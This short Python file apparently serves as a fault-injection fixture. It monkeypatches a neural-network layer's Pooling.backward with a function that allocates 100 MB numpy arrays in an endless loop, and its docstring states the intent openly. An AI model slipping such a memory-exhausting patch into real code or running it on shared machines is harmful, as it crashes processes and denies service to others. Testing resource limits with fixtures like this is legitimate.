"""Grows memory 100 MB at a time (touching every page) in Pooling.backward, never stopping."""
import numpy as np

import common.layers as layers


def backward(self, dout):
    hoard = []
    while True:
        hoard.append(np.ones(100 * 1024**2 // 8))


class Patch:
    layers.Pooling.backward = backward
